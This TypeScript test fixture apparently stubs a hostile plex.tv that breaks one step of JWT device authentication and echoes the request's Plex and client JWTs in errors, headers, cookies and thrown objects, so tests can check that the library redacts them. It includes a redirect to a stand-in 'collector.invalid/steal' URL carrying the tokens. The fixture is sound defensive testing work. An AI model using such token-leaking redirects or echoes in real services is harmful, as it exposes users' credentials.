/**
 * A plex.tv that misbehaves at one step of JWT device authentication (the nonce, the exchange, the keys,
 * a PIN poll, or a call made with the Plex JWT), echoing back what that request carried (its Plex JWT as
 * `X-Plex-Token`, its client JWT in the body or as `deviceJWT`) bare and by name, and a Plex JWT it "minted"
 * under the names core knows for tokens (`authToken`, `token`). The other steps answer as plex.tv does, a
 * Plex JWT that verifies against no key included, so that a flow reaches the step under test.
 */
import type { FetchLike } from "@plex-auth/core";
import { routeOf } from "../fuzz/stub-plex.ts";
import { PLANTED_DEVICE_KEY, PLANTED_PLEX_JWT } from "./jwt-sentinels.ts";
import { plantedAnswer } from "./planted-bodies.ts";

/** The step of the JWT flows a hostile server breaks. */
export type JwtStep = "nonce" | "exchange" | "keys" | "poll" | "call";

export const JWT_STEPS: readonly JwtStep[] = ["nonce", "exchange", "keys", "poll", "call"];

/**
 * A second planted Plex JWT, echoed only as `auth_token` (the name plex.tv gives the Plex JWT in
 * `/auth/token`'s answer). Kept apart so that the report can tell whether core redacts that name too.
 */
export const AUTH_TOKEN_ECHO = PLANTED_PLEX_JWT.replace("SENTINELplexJwtSignature", "SENTINELsnakeCaseEchoSig");

/** What the request carried that a server could echo. */
export interface Carried {
  readonly url: string;
  readonly init: RequestInit;
  readonly token: string;
  readonly clientJwt: string;
}

function carriedBy(url: string, init: RequestInit): Carried {
  const token = new Headers(init.headers).get("x-plex-token") ?? "";
  let clientJwt = new URL(url).searchParams.get("deviceJWT") ?? "";
  try {
    const { jwt } = JSON.parse(String(init.body)) as { jwt?: unknown };
    if (typeof jwt === "string") clientJwt = jwt;
  } catch {
    // No JSON body: a GET, or a form.
  }
  return { url, init, token, clientJwt };
}

/** Free text holding the request's own secrets bare and by name, and minted ones by name. */
export function echoOf({ token, clientJwt }: Carried): string {
  return (
    `X-Plex-Token: ${token} token=${token} raw ${token} jwt=${clientJwt} deviceJWT=${clientJwt} raw ${clientJwt} ` +
    `authToken=${PLANTED_PLEX_JWT} "authToken":"${PLANTED_PLEX_JWT}" auth_token=${AUTH_TOKEN_ECHO} ` +
    `"auth_token":"${AUTH_TOKEN_ECHO}"`
  );
}

function answer(status: number, body: BodyInit | null, type: string, carried: Carried, extra = {}): Response {
  const headers = {
    "content-type": type,
    "x-plex-token": carried.token,
    "x-debug": echoOf(carried).replaceAll("\n", " "),
    "set-cookie": `jwt=${carried.clientJwt}`,
    ...extra,
  };
  return new Response(body, { status, headers });
}

function jsonErrors(status: number, carried: Carried): string {
  return JSON.stringify({
    errors: [{ code: status === 422 ? 1097 : undefined, message: echoOf(carried), status }],
    auth_token: AUTH_TOKEN_ECHO,
    authToken: PLANTED_PLEX_JWT,
    jwt: carried.clientJwt,
    request: { headers: { "X-Plex-Token": carried.token }, body: carried.init.body },
  });
}

/** One way a server can misbehave at the step it breaks. */
export interface JwtBehaviour {
  readonly name: string;
  readonly answer: (carried: Carried) => Promise<Response>;
  /** Only for clients with a tiny timeout, or a small body cap, or a caller that aborts. */
  readonly needs?: "short-timeout" | "small-cap" | "abort";
}

const STATUSES = [400, 401, 422, 429, 498, 500, 503] as const;

const failingStream = (carried: Carried) =>
  new ReadableStream<Uint8Array>({
    start(controller) {
      controller.enqueue(new TextEncoder().encode(`{"auth_token":"${AUTH_TOKEN_ECHO}","jwt":"${carried.clientJwt}",`));
      controller.error(Object.assign(new Error(echoOf(carried)), { request: carried.init }));
    },
  });

export const JWT_BEHAVIOURS: readonly JwtBehaviour[] = [
  ...STATUSES.flatMap((status): JwtBehaviour[] => [
    {
      name: `HTTP ${status}, JSON errors echoing the JWTs`,
      answer: async (c) => answer(status, jsonErrors(status, c), "application/json", c, { "retry-after": "120" }),
    },
    {
      name: `HTTP ${status}, XML errors echoing the JWTs`,
      answer: async (c) =>
        answer(
          status,
          `<errors><error code="1097" message="${echoOf(c).replaceAll('"', "&quot;")}" token="${c.token}" jwt="${c.clientJwt}"/></errors>`,
          "application/xml",
          c,
        ),
    },
    {
      name: `HTTP ${status}, HTML page echoing the JWTs`,
      answer: async (c) => answer(status, `<html><body><p>${echoOf(c)}</p></body></html>`, "text/html", c),
    },
  ]),
  { name: "HTTP 500, plain text echoing the JWTs", answer: async (c) => answer(500, echoOf(c), "text/plain", c) },
  {
    name: "2xx JSON: the JWT fields of the wrong types, echoing",
    answer: async (c) =>
      answer(
        200,
        JSON.stringify({ auth_token: [AUTH_TOKEN_ECHO], nonce: { jwt: c.clientJwt }, keys: c.token, id: "x" }),
        "application/json",
        c,
      ),
  },
  {
    name: "2xx JSON: a token that is no JWT, holding the client JWT",
    answer: async (c) =>
      answer(200, JSON.stringify({ auth_token: `${c.clientJwt} ${c.token}`, nonce: "" }), "application/json", c),
  },
  {
    name: "2xx JSON: a JWT that decodes to nothing (verification skipped)",
    answer: async (c) =>
      answer(200, JSON.stringify({ auth_token: "eyJhbGciOiJFZERTQSJ9.bm90IGpzb24.c2ln" }), "application/json", c),
  },
  { name: "2xx text echoing the JWTs", answer: async (c) => answer(200, echoOf(c), "text/plain", c) },
  {
    name: "2xx body over the size cap, full of JWTs",
    answer: async (c) => answer(200, echoOf(c).repeat(50), "application/json", c),
    needs: "small-cap",
  },
  {
    name: "a body stream that fails mid-way with the JWTs in its error",
    answer: async (c) => answer(200, failingStream(c), "application/json", c),
  },
  ...[302, 307, 308].map(
    (status): JwtBehaviour => ({
      name: `HTTP ${status} to another origin, the JWTs in the Location`,
      answer: async (c) =>
        answer(status, echoOf(c), "text/plain", c, {
          location: `http://collector.invalid/steal?token=${c.token}&jwt=${c.clientJwt}`,
        }),
    }),
  ),
  {
    name: "a connection error whose cause holds the request, headers and body",
    answer: async (c) => {
      const cause = Object.assign(new Error(`connect ECONNREFUSED 127.0.0.1:9 ${echoOf(c)}`), {
        code: "ECONNREFUSED",
        request: { headers: c.init.headers, body: c.init.body },
      });
      throw new TypeError(`fetch failed ${echoOf(c)}`, { cause });
    },
  },
  {
    name: "a reset whose message echoes the JWTs",
    answer: async (c) => {
      throw new TypeError("fetch failed", {
        cause: Object.assign(new Error(`read ECONNRESET ${echoOf(c)}`), { code: "ECONNRESET" }),
      });
    },
  },
  {
    name: "a fetch that throws a plain object holding the request",
    answer: async (c) => {
      throw { message: echoOf(c), init: c.init };
    },
  },
  {
    name: "a fetch that never answers (timeout)",
    answer: () => new Promise<Response>(() => {}),
    needs: "short-timeout",
  },
  {
    name: "the caller aborts with a reason holding the JWTs",
    answer: (c) =>
      new Promise<Response>((_resolve, reject) => {
        c.init.signal?.addEventListener("abort", () => reject(c.init.signal?.reason), { once: true });
      }),
    needs: "abort",
  },
];

function json(body: unknown, status = 200): Response {
  return new Response(JSON.stringify(body), { status, headers: { "content-type": "application/json" } });
}

/** The step a request is, by its path (anything that is not a JWT step is a call made with the token). */
export function stepOf(method: string, url: string): JwtStep | "pin creation" {
  const operation = routeOf(method, url);
  if (operation === "getAuthNonce") return "nonce";
  if (operation === "exchangeJWTToken") return "exchange";
  if (operation === "getAuthKeys") return "keys";
  if (operation === "getOAuthPin") return "poll";
  return operation === "createOAuthPin" ? "pin creation" : "call";
}

/** What the steps a server does not break answer. */
function honest(step: JwtStep | "pin creation", method: string, url: string): Response {
  switch (step) {
    case "nonce":
      // A new one each time: Ed25519 signs deterministically, so one nonce would make one client JWT for all.
      return json({ nonce: crypto.randomUUID() });
    case "exchange":
      return json({ auth_token: PLANTED_PLEX_JWT });
    case "keys":
      // Ed25519 under the planted JWT's kid, but not the key that signed it (nothing did): it never verifies.
      return json({ keys: [{ kty: "OKP", crv: "Ed25519", x: PLANTED_DEVICE_KEY.x, kid: "SENTINELplexSigningKey" }] });
    case "poll":
      return json({ id: 918_273_645, code: "7RQZ", expiresIn: 600, authToken: PLANTED_PLEX_JWT });
    case "pin creation":
      return json({ id: 918_273_645, code: "7RQZ", expiresIn: 600 }, 201);
    default: {
      const { status, body } = plantedAnswer(method, url, []);
      return new Response(body, { status, headers: { "content-type": "application/json" } });
    }
  }
}

/** A fetch for a plex.tv that breaks `step` with `behaviour` and answers every other step honestly. */
export function hostileJwtPlex(step: JwtStep, behaviour: JwtBehaviour): FetchLike {
  return async (url, init) => {
    const method = init.method ?? "GET";
    const at = stepOf(method, url);
    return at === step ? behaviour.answer(carriedBy(url, init)) : honest(at, method, url);
  };
}
